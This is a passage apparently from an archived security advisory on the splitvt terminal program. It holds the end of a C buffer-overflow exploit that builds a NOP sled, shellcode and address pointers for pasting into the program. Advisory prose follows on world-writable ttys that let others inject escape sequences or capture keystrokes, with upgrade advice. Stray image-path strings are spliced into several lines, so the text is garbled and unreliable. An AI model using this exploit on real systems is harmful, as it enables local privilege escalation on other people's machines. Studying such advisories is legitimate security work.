      ptr = buff + 28;addr_ptr = (long *) ptr;
        *(addr_ptr++) = addr2;  // this is the pointer to addr2

      for (i = 300; i < 528; i++)       // 300-END  NOPs
        buff[i] = NOP;

      // 400-...:   shellcode
      ptr = buff + 400;
      for (i = 0; i < strlen(shellcode); i++)
        *(ptr++) = shellcode[i];

      buff[528] = '\0';

      // Create the pointers-to-addr1-string.

      pointerz=(char *)malloc(1004);
      ptr = pointerz;
      addr_ptr = (long *) ptr;for (i = 0; i < 1000; i+=4)       // 0-300:   the window-structure
        *(addr_ptr++) = addr1;

      printf("Paste this 1x:\n%s\n\nAnd this 12x:\n%s\n", buff, pointerz);

    On SuSE  splitvt isn't  installed setuid  on SuSE  Linux.   So how
    does it work?   If it's not  setuid, and has  not been patched  to
    use devpts, it  has no way  of chowning the  tty's it uses.   That
    means that when you run splitvt, you are typing into a shell  that
    is connected to a tty that is (typically) mode:

        crw-rw-rw-    1 root     tty        3, 176 Jun 14 14:53 /dev/ttya0

    Thus,  third  parties  can  eg,  write  escape  sequences  to  theterminal, and possibly  remap keystrokes to  do evil things.   And
    they can certianly capture your keystokes to that terminal.


    You should upgrade to 1.6.4.   Debian users should look  following

    Note  that  in  addition  to  the  above  fix,  version 1.6.4-3 of
    splitvt in Debian is no longer suid root, just sgid utmp.

    Redhat did respond with a  "that package comes from our  'contrib'
    section,  which  we  do  notmaintain",  so there isn't a new rpm
    (yet?),  but  you  could  download  the  source  and compile 1.6.4
    yourself.  Source:

TUCoPS is optimized to look best in Firefox® on a widescreen monitor (1440x900 or better).
Site design &layout copyright © 1986-2015 AOH